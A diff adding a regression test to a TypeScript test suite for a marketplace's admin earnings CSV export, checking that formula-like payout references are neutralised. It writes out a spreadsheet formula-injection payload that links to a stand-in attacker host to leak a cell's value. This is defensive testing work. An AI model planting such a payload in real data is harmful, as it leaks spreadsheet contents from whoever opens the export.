@@ -4,6 +4,7 @@ import { diginoorMarketplaceAbi } from "@diginoor/contracts/generated/diginoorMa
 import type { EarningCurrency, EarningsStatement } from "@diginoor/api/earnings";
 import type { NftAuction, Order } from "@diginoor/api/orders";
 import { privateKeyToAccount } from "viem/accounts";
+import { parse as parseCsv } from "csv-parse/sync";
 import { afterAll, beforeAll, describe, expect, it } from "vitest";
 import { sandboxSecret } from "../src/modules/orders/service.ts";
 import { signSandboxPayload } from "../src/modules/orders/sandbox.ts";
@@ -491,5 +492,27 @@ describe("studio earnings", () => {
       "SELECT 1 FROM admin_audit_log WHERE action = 'studio.payout' AND subject_id = '1'",
     );
     expect(audit).toHaveLength(1);
+
+    // Issue 37 point 7: a payout reference that is a spreadsheet formula is exported as text.
+    const hostile = '=HYPERLINK("http://evil.example/?leak="&B2,"Payout receipt")';
+    const second = await api("POST", url, admin.cookie, { ...payout, amountMinor: "1", reference: hostile });
+    expect(second.status).toBe(201);
+    const exported = await t.app.inject({
+      method: "GET",
+      url: "/api/v1/admin/studios/1/earnings.csv",
+      headers: { cookie: admin.cookie },
+    });
+    const records = parseCsv(exported.body, { columns: true }) as Record<string, string>[];
+    const payouts = records.filter((r) => r.kind === "payout");
+    expect(payouts.map((r) => [r.reference, r.amount_minor])).toEqual([
+      ["NEFT UTR 7001", "100000"],
+      [`'${hostile}`, "1"],
+    ]);
+    // Every other cell is as the statement has it: the amounts are numbers, nothing neutralised.
+    const lines = records.filter((r) => r.kind !== "payout");
+    expect(lines).toHaveLength(one.lines.length);
+    expect(lines.map((r) => r.amount_minor)).toEqual(one.lines.map((l) => l.amountMinor));
+    expect(lines.map((r) => r.reference)).toEqual(one.lines.map((l) => l.reference));
+    for (const r of records) for (const v of Object.values(r)) expect(v).not.toMatch(/^[=+\-@\t\r]/);
   }, 240_000);
 });
